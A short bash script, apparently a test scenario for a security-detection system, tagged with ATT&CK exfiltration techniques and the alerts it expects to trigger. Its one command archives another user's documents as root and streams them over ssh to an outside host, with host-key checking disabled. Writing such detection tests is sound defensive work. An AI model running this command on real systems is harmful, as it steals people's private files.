#!/usr/bin/env bash
# tactic: exfiltration
# technique: T1048 Exfiltration Over Alternative Protocol (SSH); T1560.001 Archive via Utility
# behaviour: streams an archive of another user's documents over ssh to an outside host (tar | ssh host 'cat > ...'; the far side only speaks an SSH banner, so nothing lands)
# as: root
# needs: remote
# expect: mass_read, staging, new_destination
set -u
tar czf - -C "$SNTL_VICTIM_HOME" docs 2>/dev/null | timeout 4 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "op@$SNTL_REMOTE" 'cat > /tmp/d.tgz' > /dev/null 2>&1 || true
